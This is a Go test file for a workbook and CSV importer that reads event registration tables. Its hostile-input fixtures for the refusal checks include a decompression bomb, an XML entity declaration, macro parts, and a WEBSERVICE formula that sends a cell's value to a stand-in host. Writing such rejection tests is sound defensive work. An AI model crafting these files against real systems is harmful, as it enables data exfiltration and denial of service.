package workbook

import (
	"archive/zip"
	"bytes"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"golang.org/x/text/encoding/simplifiedchinese"
	"golang.org/x/text/encoding/unicode"

	"tongchang/scoring"
)

// book makes a workbook of sheets given as rows of cells parted by "|". Merges
// are ranges.
func book(t testing.TB, change func(*excelize.File), sheets map[string][]string, merged ...string) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	first := "Sheet1"
	for name, rows := range sheets {
		if name != first {
			if _, err := f.NewSheet(name); err != nil {
				t.Fatal(err)
			}
		}
		for i, row := range rows {
			for j, text := range strings.Split(row, "|") {
				if text == "" {
					continue
				}
				if err := f.SetCellStr(name, Address(i, j), strings.ReplaceAll(text, `\n`, "\n")); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
	for _, m := range merged {
		from, to, _ := strings.Cut(m, ":")
		if err := f.MergeCell(first, from, to); err != nil {
			t.Fatal(err)
		}
	}
	if change != nil {
		change(f)
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// tables reads the tables of all sheets.
func tables(t testing.TB, data []byte, m Memory) []*Table {
	t.Helper()
	b, err := Read("test", data, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var all []*Table
	for i := range b.Sheets {
		all = append(all, b.Sheets[i].Tables(m)...)
	}
	return all
}

// said writes a table down: its kind, the fields by column, and the rows' names
// with their addresses.
func said(t *Table) string {
	var b strings.Builder
	fmt.Fprint(&b, t.Kind)
	for _, c := range t.Columns {
		fmt.Fprintf(&b, " %s=%s", ColumnName(c.At), c.Field)
	}
	for _, r := range t.Rows {
		name, at := r.Get(Name)
		fmt.Fprintf(&b, " %s:%s", at, name)
	}
	return b.String()
}

func TestTables(t *testing.T) {
	for name, tt := range map[string]struct {
		rows   []string
		merged []string
		memory Memory
		want   []string
	}{
		"title, note, blank rows, total": {
			rows: []string{"某代表团报名表", "联系人:张三", "", "序号|姓名|性别|身份证号", "1|张三|男|x", "", "注:统一着装", "2|李四|女|y", "合计:2人"},
			want: []string{"people A=number B=name C=sex D=id B5:张三 B8:李四"},
		},
		"any order, many names": {
			rows: []string{"生日|二代残疾证号|名字|男/女|公民身份号码*", "1|2|张三|男|3"},
			want: []string{"people A=birth B=cert C=name D=sex E=id C2:张三"},
		},
		"two lines, merged": {
			rows:   []string{"姓名|性别|残疾情况||监护人", "||残疾人证号|残疾类别|姓名|电话", "张三|男|1|肢体|张父|2"},
			merged: []string{"A1:A2", "B1:B2", "C1:D1", "E1:F1"},
			want:   []string{"people A=name B=sex C=cert D=cat E=guardian F=guardian_phone A3:张三"},
		},
		"two lines, not merged": {
			rows: []string{"姓名|性别|身份证|残疾情况||联系电话", "|||残疾人证号|残疾类别", "张三|男|0|1|肢体|2"},
			want: []string{"people A=name B=sex C=id D=cert E=cat F=phone A3:张三"},
		},
		"header repeated, another table below": {
			rows: []string{"姓名|性别|小项", "张三|男|跳远", "", "姓名|性别|小项", "李四|女|跳高", "", "随队人员", "职务|姓名|性别", "领队|王五|男"},
			want: []string{"people A=name B=sex C=event A2:张三 A5:李四", "people A=role B=name C=sex B9:王五"},
		},
		"merged team": {
			rows:   []string{"队伍|姓名|性别", "田径队|张三|男", "|李四|女", "|", "|王五|女"},
			merged: []string{"A2:A5"},
			want:   []string{"people A=team B=name C=sex B2:张三 B3:李四 B5:王五"},
		},
		"the sport, as another column has the event": {
			rows: []string{"姓名|性别|项目|小项", "张三|男|田径|跳远"},
			want: []string{"people A=name B=sex C=sport D=event A2:张三"},
		},
		"the event, as none has": {
			rows: []string{"姓名|性别|项目", "张三|男|茶艺"},
			want: []string{"people A=name B=sex C=event A2:张三"},
		},
		"ticks": {
			rows: []string{"序号|姓名|性别|级别|100米|跳远|项数", "1|张三|男|T37|√||1", "2|李四|女|T38|||0"},
			want: []string{"matrix A=number B=name C=sex D=class E=tick F=tick G=count B2:张三 B3:李四"},
		},
		"nobody ticked": {
			rows: []string{"序号|姓名|性别|级别|100米|项数", "1|张三|男|T37||0"},
			want: []string{"matrix A=number B=name C=sex D=class E=tick F=count B2:张三"},
		},
		"head counts": {
			rows: []string{"序号|大项|男运动员|女运动员|运动员小计", "1|田径|3|2|5", "合计||3|2|5"},
			want: []string{"summary A=number B=sport C=men D=women E=count :"},
		},
		"a number's column known by its values": {
			rows: []string{"姓名|性别|民族|号码", "张三|男|汉|230199199210134762", "李四|女|汉|23019919860316087X"},
			want: []string{"people A=name B=sex C=ethnic D=id A2:张三 A3:李四"},
		},
		"a column that a person has named": {
			rows:   []string{"姓名|性别|民族|备用", "张三|男|汉|T37"},
			memory: Memory{"备用": Class, "民族": ""},
			want:   []string{"people A=name B=sex C= D=class A2:张三"},
		},
		"a name is missing": {
			rows: []string{"姓名|性别|身份证|电话", "|男|1|2", "张三"},
			want: []string{"people A=name B=sex C=id D=phone A2:"},
		},
		"no table": {rows: []string{"填表说明", "1、身份证必须用文本格式。"}},
	} {
		t.Run(name, func(t *testing.T) {
			var got []string
			for _, table := range tables(t, book(t, nil, map[string][]string{"Sheet1": tt.rows}, tt.merged...), tt.memory) {
				got = append(got, said(table))
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("got\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
			}
		})
	}
}

// TestMemory: what a person has said once holds for the next file.
func TestMemory(t *testing.T) {
	m := Memory{}
	m.Learn("备 用 号", ID)
	rows := book(t, nil, map[string][]string{"Sheet1": {"姓名|性别|民族|备用号", "张三|男|汉|不是号码"}})
	if got := said(tables(t, rows, nil)[0]); strings.Contains(got, "=id") {
		t.Errorf("known without being told: %s", got)
	}
	table := tables(t, rows, m)[0]
	if got := said(table); !strings.Contains(got, "D=id") {
		t.Errorf("forgotten: %s", got)
	}
	if text, at := table.Rows[0].Get(ID); text != "不是号码" || at != "D2" {
		t.Errorf("%s at %s", text, at)
	}
}

func TestCSV(t *testing.T) {
	const text = "\n某代表团\n\n姓名,性别,\"小\n项\"\n张三,男,跳远\n"
	gb, err := simplifiedchinese.GB18030.NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	little, err := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String(text)
	if err != nil {
		t.Fatal(err)
	}
	big, err := unicode.UTF16(unicode.BigEndian, unicode.IgnoreBOM).NewEncoder().String(strings.ReplaceAll(text, ",", ";"))
	if err != nil {
		t.Fatal(err)
	}
	for name, tt := range map[string]struct{ data, encoding string }{
		"UTF-8": {text, utf8Name}, "with a mark": {"\ufeff" + text, utf8Name}, "GB 18030": {gb, gbName},
		"UTF-16": {little, utf16Name}, "UTF-16 without a mark, semicolons": {big, utf16Name}, "tabs": {strings.ReplaceAll(text, ",", "\t"), utf8Name},
	} {
		t.Run(name, func(t *testing.T) {
			b, err := Read("x.csv", []byte(tt.data), Options{})
			if err != nil {
				t.Fatal(err)
			}
			if b.Encoding != tt.encoding || !b.Sure {
				t.Errorf("%s, sure %v", b.Encoding, b.Sure)
			}
			found := b.Sheets[0].Tables(nil)
			if len(found) != 1 || said(found[0]) != "people A=name B=sex C=event A5:张三" {
				t.Errorf("tables: %v", b.Sheets[0].Rows)
			}
		})
	}
	if b, err := Read("x.csv", []byte(gb), Options{Encoding: utf8Name}); problem(err) != "csv-encoding" {
		t.Errorf("GB 18030 read as UTF-8: %v, %v", b, err)
	}
	if b, err := Read("x.csv", []byte("\xd0\xd5\xc3\xfb,"), Options{}); err != nil || b.Encoding != gbName {
		t.Errorf("GB 18030 that says nothing of a table: %v, %v", b, err)
	}
}

func problem(err error) string {
	var invalid *scoring.Invalid
	if !errors.As(err, &invalid) {
		return ""
	}
	return invalid.Problem
}

// parts makes a zip of parts; what stands for a real workbook's is enough to be
// looked at.
func parts(t testing.TB, content map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	z := zip.NewWriter(&buf)
	for name, text := range content {
		w, err := z.Create(name)
		if err == nil {
			_, err = w.Write([]byte(text))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// with adds parts to a good workbook.
func with(t testing.TB, good []byte, name, text string) []byte {
	t.Helper()
	r, err := zip.NewReader(bytes.NewReader(good), int64(len(good)))
	if err != nil {
		t.Fatal(err)
	}
	content := map[string]string{name: text}
	for _, f := range r.File {
		if f.Name == name {
			continue
		}
		in, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		var buf bytes.Buffer
		if _, err := buf.ReadFrom(in); err != nil {
			t.Fatal(err)
		}
		content[f.Name] = buf.String()
	}
	return parts(t, content)
}

// hostile are files that nobody should send, each with what is said to it.
func hostile(t testing.TB) map[string]struct {
	data []byte
	want string
} {
	good := book(t, nil, map[string][]string{"Sheet1": {"姓名|性别|小项", "张三|男|跳远"}})
	sheet := func(rows string) []byte {
		return with(t, good, "xl/worksheets/sheet1.xml", `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+rows+`</sheetData></worksheet>`)
	}
	var million strings.Builder
	for i := range 1_000_000 {
		fmt.Fprintf(&million, `<row r="%d"/>`, i+1)
	}
	secret := book(t, nil, map[string][]string{"Sheet1": {"姓名"}})
	encrypted, err := excelize.Encrypt(secret, &excelize.Options{Password: "open"})
	if err != nil {
		t.Fatal(err)
	}
	many := map[string]string{"xl/workbook.xml": ""}
	for i := range maxParts {
		many[fmt.Sprintf("xl/%d.xml", i)] = ""
	}
	long := strings.Repeat("长", maxCell+1)
	var mergedCells, cells strings.Builder
	for i := range 300_000 {
		fmt.Fprintf(&mergedCells, `<mergeCell ref="A%d:B%d"/>`, i+1, i+1)
	}
	for r := range 40 {
		fmt.Fprintf(&cells, `<row r="%d">%s</row>`, r+1, strings.Repeat(`<c t="s"><v>0</v></c>`, 60))
	}
	everywhere := with(t, with(t, good, "xl/sharedStrings.xml", `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>`+strings.Repeat("Ａ", maxCell)+`</t></si></sst>`),
		"xl/worksheets/sheet1.xml", `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`+cells.String()+`</sheetData></worksheet>`)
	return map[string]struct {
		data []byte
		want string
	}{
		"nothing":              {nil, "book-empty"},
		"blanks":               {[]byte(" \r\n"), "book-empty"},
		"a web page":           {[]byte("<html><table><tr><td>姓名"), "book-html"},
		"a web page, marked":   {[]byte("\ufeff\n<!DOCTYPE html><table>"), "book-html"},
		"old Excel":            {[]byte("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook"), "book-old"},
		"a password":           {encrypted, "book-encrypted"},
		"a PDF":                {[]byte("%PDF-1.7"), "book-unknown"},
		"another zip":          {parts(t, map[string]string{"word/document.xml": "<w/>"}), "book-unknown"},
		"a cut zip":            {good[:len(good)/2], "book-broken"},
		"too big":              {bytes.Repeat([]byte("a,"), MaxSize/2+1), "book-too-big"},
		"a bomb":               {with(t, good, "xl/media/image1.png", strings.Repeat("\x00", maxUnzipped+1)), "book-unzipped"},
		"blanks without end":   {with(t, good, "xl/worksheets/sheet2.xml", strings.Repeat(" ", 8<<20)), "book-ratio"},
		"too many parts":       {parts(t, many), "book-parts"},
		"macros":               {with(t, good, "xl/vbaProject.bin", "x"), "book-macros"},
		"macros of old":        {with(t, good, "xl/macrosheets/sheet1.xml", "<x/>"), "book-macros"},
		"entities":             {with(t, good, "xl/sharedStrings.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><sst><si><t>&b;</t></si></sst>`), "book-doctype"},
		"another encoding":     {with(t, good, "xl/sharedStrings.xml", "\xff\xfe<\x00"), "book-broken"},
		"links to other books": {with(t, good, "xl/externalLinks/externalLink1.xml", "<x/>"), "book-outside"},
		"a formula that asks":  {sheet(`<row r="1"><c r="A1"><f>WEBSERVICE("http://x/"&amp;B1)</f><v>1</v></c></row>`), "book-outside"},
		"a million blank rows": {sheet(million.String()), "book-rows"},
		"the last cell":        {sheet(`<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>`), "book-rows"},
		"row 2147483647":       {sheet(`<row r="2147483647"><c r="A2147483647"><v>1</v></c></row>`), "book-broken"},
		"row -1":               {sheet(`<row r="-1"><c r="A-1"><v>1</v></c></row>`), "book-broken"},
		"too wide":             {sheet(`<row r="1"><c r="XFD1" t="inlineStr"><is><t>x</t></is></c></row>`), "book-columns"},
		"a long cell":          {sheet(`<row r="1"><c r="A1" t="inlineStr"><is><t>` + long + `</t></is></c></row>`), "book-cell"},
		"merged without end":   {with(t, good, "xl/worksheets/sheet1.xml", `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/><mergeCells>`+mergedCells.String()+`</mergeCells></worksheet>`), "book-merges"},
		"a text in every cell": {everywhere, "book-text"},
		"broken text":          {[]byte("a,\xff\xff\xff,\xfe"), "csv-encoding"},
	}
}

// TestHostile: each is refused in a sentence. The aim is a second and 64 MB,
// which is printed; what is asserted is far above it, since the race detector
// takes more of both.
func TestHostile(t *testing.T) {
	for name, tt := range hostile(t) {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.GC()
			runtime.ReadMemStats(&before)
			start := time.Now()
			_, err := Read("x.xlsx", tt.data, Options{})
			took := time.Since(start)
			runtime.ReadMemStats(&after)
			if got := problem(err); got != tt.want {
				t.Errorf("%v, want %s", err, tt.want)
			}
			if used := (after.TotalAlloc - before.TotalAlloc) >> 20; took > 30*time.Second || used > 512 {
				t.Errorf("took %v and %d MB", took, used)
			} else {
				t.Logf("took %v and %d MB", took, used)
			}
		})
	}
}

// TestHidden: a hidden sheet is not read, and it is known that it is there.
func TestHidden(t *testing.T) {
	data := book(t, func(f *excelize.File) {
		if err := f.SetSheetVisible("名单2", false); err != nil {
			t.Fatal(err)
		}
	}, map[string][]string{"Sheet1": {"姓名|性别|小项", "张三|男|跳远"}, "名单2": {"姓名|性别|小项", "李四|男|跳远"}})
	b, err := Read("x", data, Options{})
	if err != nil || len(b.Sheets) != 1 || !slices.Equal(b.Hidden, []string{"名单2"}) {
		t.Errorf("%+v, %v", b, err)
	}
}

// TestStored: numbers, days and formulas come as the file keeps them, and days
// of an old Mac say that they count from 1904.
func TestStored(t *testing.T) {
	data := book(t, func(f *excelize.File) {
		year := true
		err := errors.Join(
			f.SetWorkbookProps(&excelize.WorkbookPropsOptions{Date1904: &year}),
			f.SetCellValue("Sheet1", "A2", 231099198307264636),
			f.SetCellValue("Sheet1", "B2", 2.31099198307264e17),
			f.SetCellFormula("Sheet1", "C2", "1+1"),
		)
		if err != nil {
			t.Fatal(err)
		}
	}, map[string][]string{"Sheet1": {"姓名|性别|小项"}})
	b, err := Read("x", data, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if row := b.Sheets[0].Rows[1]; !b.Date1904 || row[0] != "231099198307264636" || !strings.HasPrefix(row[1], "2.31099198307264") && row[1] != "231099198307264000" {
		t.Errorf("%v %q", b.Date1904, row)
	}
}

func TestAddress(t *testing.T) {
	for _, tt := range []struct {
		row, column int
		want        string
	}{{0, 0, "A1"}, {55, 6, "G56"}, {9, 25, "Z10"}, {0, 26, "AA1"}, {0, 701, "ZZ1"}, {0, 702, "AAA1"}} {
		if got := Address(tt.row, tt.column); got != tt.want {
			t.Errorf("Address(%d, %d) = %s, want %s", tt.row, tt.column, got, tt.want)
		}
	}
}

// FuzzRead: whatever comes is read or refused with a problem that can be said.
func FuzzRead(f *testing.F) {
	f.Add(book(f, nil, map[string][]string{"Sheet1": {"姓名|性别|小项", "张三|男|跳远"}}, "A1:A2"))
	for _, h := range hostile(f) {
		if len(h.data) < 5_000 {
			f.Add(h.data)
		}
	}
	f.Add([]byte("姓名,性别,小项\n张三,男,\"跳远"))
	f.Fuzz(func(t *testing.T, data []byte) {
		b, err := Read("x", data, Options{})
		if err != nil {
			if problem(err) == "" {
				t.Errorf("refused without a problem: %v", err)
			}
			return
		}
		for i := range b.Sheets {
			for _, table := range b.Sheets[i].Tables(nil) {
				_ = said(table)
			}
		}
	})
}

// BenchmarkRead reads 5,000 rows of 24 columns.
func BenchmarkRead(b *testing.B) {
	rows := []string{"序号|姓名|性别|身份证号|残疾证|残疾类别|等级|大项|小项|级别|成绩|教练员|电话|民族|生日|有效期|饮食|轮椅|需求|备注|监护人|家长电话|领跑员|队伍"}
	for i := range 5000 {
		rows = append(rows, fmt.Sprintf("%d|张%d|男|%018d|%020d|肢体|一级|田径|100米、跳远|T37|12.35/—|李教练|19900000000|汉族|1990-01-01|2030-01-01|清真||需淋浴椅||||", i, i, i, i))
	}
	data := book(b, nil, map[string][]string{"Sheet1": rows})
	b.ReportMetric(float64(len(data)), "file-B")
	for b.Loop() {
		if n := len(tables(b, data, nil)[0].Rows); n != 5000 {
			b.Fatalf("%d rows", n)
		}
	}
}

// TestSampleMapping: in every sample workbook every column that has anything in
// it has a field.
func TestSampleMapping(t *testing.T) {
	root := os.Getenv("TONGCHANG_SAMPLES")
	if root == "" {
		root = filepath.Join("..", "..", "..", "shared", "samples")
	}
	files, err := filepath.Glob(filepath.Join(root, "registration", "*", "*.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	if len(files) == 0 {
		t.Skipf("NOT TESTED: the mapping of the columns that delegations send. There are no workbooks under %s; set TONGCHANG_SAMPLES.", root)
	}
	columns, sure := 0, 0
	for _, file := range files {
		raw, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, table := range tables(t, raw, nil) {
			for _, c := range table.Columns {
				columns++
				if c.Sure == 100 {
					sure++
				}
				if c.Field == "" {
					t.Errorf("%s, %s: column %s, %q, has no field", filepath.Base(file), table.Sheet, ColumnName(c.At), c.Header)
				}
			}
		}
	}
	t.Logf("%d columns in %d files: %d by a known name, %d by the rest of the table", columns, len(files), sure, columns-sure)
}
